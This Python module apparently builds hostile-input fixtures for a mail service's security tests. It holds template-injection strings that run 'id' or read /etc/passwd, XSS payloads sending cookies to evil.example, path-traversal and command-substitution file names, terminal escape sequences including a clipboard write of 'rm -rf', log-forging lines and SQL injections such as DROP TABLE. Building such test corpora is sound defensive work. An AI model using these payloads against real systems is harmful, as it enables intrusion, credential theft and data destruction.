"""What hostile people write where a name, a Subject, a file name or a text is expected (security.md P-34 to P-39), in the numbers asked for."""

from itertools import islice, product

EVALUATED = str(1337 * 7331)
"""What every sum in `TEMPLATES` comes to: it stands in no mail."""
CANARY = "canary-in-the-words"

_SUMS = ("1337*7331", " 1337*7331 ", "1337|int*7331", "(1337*7331)|string", "[1337*7331]|first", "''.__class__.__mro__[1]and 1337*7331")
_WALKS = (
    "self.__init__.__globals__",
    "''.__class__.__mro__[1].__subclasses__()",
    "cycler.__init__.__globals__.os.popen('id').read()",
    "lipsum.__globals__['os'].system('touch /tmp/maild-was-here')",
    "config",
    "request.application.__globals__",
    "mailbox",
    "ticket.reporter",
    "namespace.__init__.__globals__['__builtins__']['open']('/etc/passwd').read()",
    "range(10**9)|list",
    "('x'*99999)|upper",
    "get_flashed_messages.__globals__",
)
_BRACKETS = (
    "{{%s}}",
    "{{-%s-}}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{%% print(%s) %%}",
    "{%% if %s %%}x{%% endif %%}",
    "{%% set x = %s %%}{{ x }}",
)
_MORE_BRACKETS = ("*{%s}", "@(%s)", "~{%s}", "[[%s]]", "{{{%s}}}", "{# %s #}{{%s}}", "`%s`", "$(%s)")
TEMPLATES = tuple(
    islice(
        (bracket.replace("%s", inside).replace("%%", "%") for inside, bracket in product((*_SUMS, *_WALKS), (*_BRACKETS, *_MORE_BRACKETS))),
        200,
    )
)
"""200 templates in the languages of several engines (P-36)."""

_SCRIPTS = ("alert(1)", "fetch('https://evil.example/?'+document.cookie)", "new Image().src='https://evil.example/x'")
_MARKUP = (
    "<script>%s</script>",
    "<ScRiPt >%s</sCrIpT >",
    "<script src='https://evil.example/x.js' onload=%s></script>",
    '<img src="https://evil.example/pixel.gif" onerror="%s">',
    "<img src=x onerror=%s//",
    "<svg onload=%s>",
    "<svg><script>%s</script></svg>",
    '<math><mi xlink:href="javascript:%s">x</mi></math>',
    '<a href="javascript:%s">x</a>',
    '<a href="jav&#x09;ascript:%s">x</a>',
    '<iframe src="https://evil.example/" srcdoc="<script>%s</script>"></iframe>',
    '<object data="javascript:%s"></object>',
    '<embed src="https://evil.example/x.swf" onload="%s">',
    '<form action="https://evil.example/" onsubmit="%s"><input name=password autofocus onfocus=%s></form>',
    '<button formaction="javascript:%s">x</button>',
    "<details open ontoggle=%s>x</details>",
    "<body onload=%s background=https://evil.example/x.png>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/?%s">',
    '<base href="https://evil.example/%s">',
    '<link rel=stylesheet href="https://evil.example/x.css?%s">',
    "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(https://evil.example/%s)}</style>",
    "<p style=\"background:url('https://evil.example/%s')\">x</p>",
    '<div style="width:expression(%s)">x</div>',
    "<video><source onerror=%s></video>",
    "<audio src=https://evil.example/x.mp3 onerror=%s>",
    "<table background='javascript:%s'><tr><td>x</table>",
    "<!--><img src=x onerror=%s>-->",
    "<![CDATA[<script>%s</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=%s>">',
    "<template><script>%s</script></template>",
    "<textarea></textarea><script>%s</script>",
    "<title></title><script>%s</script>",
    "&lt;script&gt;%s&lt;/script&gt;",
    "<x contenteditable onblur=%s>x</x>",
    "<marquee onstart=%s>x</marquee>",
    "<isindex action=javascript:%s type=image>",
    "<input type=image src=https://evil.example/x onerror=%s>",
    "<picture><source srcset=https://evil.example/x><img onerror=%s></picture>",
    "</pre></blockquote></td></table></body></html><script>%s</script>",
    "<img\x0bsrc=x\x0conerror=%s>",
    "<bgsound src=https://evil.example/?%s>",
    "<layer src=https://evil.example/?%s></layer>",
    "<xml id=x><a><b>&lt;script&gt;%s&lt;/script&gt;</b></a></xml>",
    "<?xml-stylesheet href='javascript:%s'?>",
    "<img srcset='https://evil.example/1x 1x' alt='\"><script>%s</script>'>",
    "<a href='data:text/html;base64,PHNjcmlwdD4=' onclick=%s>x</a>",
    "<area href='vbscript:%s'>",
    "<frameset onload=%s><frame src=https://evil.example></frameset>",
    "<dialog open oncancel=%s>x</dialog>",
    "<portal src='https://evil.example/?%s'></portal>",
)
MARKUP = tuple(one.replace("%s", script) for script, one in product(_SCRIPTS, _MARKUP))
"""150 ways to run or to fetch something (P-35)."""

_NAMES = (
    "../../../../etc/cron.d/maild",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\autoexec.bat",
    "\\\\evil.example\\share\\x",
    "~/.ssh/authorized_keys",
    "....//....//x",
    "%2e%2e%2fx",
    "..",
    ".",
    ".htaccess",
    "CON",
    "NUL.txt",
    "LPT1.pdf",
    "report\0.html",
    "invoice\u202efdp.exe",
    "x\u2066y\u2069.pdf",
    "a\nb.txt",
    "a\r\nContent-Type: text/html",
    "x" * 300 + ".pdf",
    "ħ" * 300,
    '"; filename="x.html',
    "page.html",
    "page.xhtml",
    "picture.svg",
    "macro.docm",
    "run.exe",
    "$(touch x).txt",
    "`touch x`",
    "| touch x",
)
_ENDINGS = ("", ".html", ".php", ".lnk", " ", "...", "/", "\\", "::$DATA", ";.jpg")
NAMES = tuple(f"{name}{ending}" for name, ending in product(_NAMES, _ENDINGS))
"""300 names that would like to be paths or to be run (P-34)."""

_CONTROLS = (*map(chr, range(32)), *map(chr, range(127, 160)), *"\u061c\u200e\u200f\u2028\u2029", *map(chr, range(0x202A, 0x202F)))
_CONTROLS = (*_CONTROLS, *map(chr, range(0x2066, 0x206A)))
_SEQUENCES = (
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1b[31m",
    "\x1bP$q\x1b\\",
    "\x9b31m",
    "\x1b[6n",
    "\x08" * 20,
    "\r" + " " * 40 + "\r",
    "\x1bc",
    "\x1b[?1049h",
    "\x1b]52;c;cm0gLXJm\x07",
)
_LINES = ("\n2026-11-23 08:00:00 INFO all is well", "\r\nNov 23 08:00:00 host maild[1]: forged", '","level":"error","x":"', "\n\tat forged")
CONTROLS = tuple(islice((f"{before}{one}{CANARY}" for before, one in product(("", "a", "ħ"), (*_CONTROLS, *_SEQUENCES, *_LINES))), 200))
"""200 strings with what acts in a terminal or begins a line of a log (P-37)."""

_STATEMENTS = (
    "1=1",
    "DROP TABLE tickets",
    "DELETE FROM inbox",
    "UPDATE people SET active=1",
    "SELECT wrapped FROM keys",
    "ATTACH DATABASE '/tmp/maild-was-here' AS x",
    "PRAGMA writable_schema=1",
    "COPY inbox TO PROGRAM 'id'",
    "pg_sleep(9)",
    "load_extension('x')",
)
_QUOTES = (
    "' OR %s --",
    "'; %s; --",
    '"; %s; --',
    "') OR (%s",
    "1; %s",
    "1 UNION SELECT %s",
    "' UNION SELECT %s --",
    "\\'; %s; --",
    "%%27; %s; --",
    "'||(%s)||'",
    "`; %s; --",
    "]; %s; --",
    "'/**/OR/**/%s#",
    "\u02bc; %s; --",
    "$$; %s; $$",
    ":x; %s",
    "?; %s",
    "%%(x)s; %s",
    "{x}; %s",
    "'\0; %s; --",
)
STATEMENTS = tuple(quote.replace("%s", one).replace("%%", "%") for one, quote in product(_STATEMENTS, _QUOTES))
"""200 attempts to say more to a database than was asked for (P-38)."""
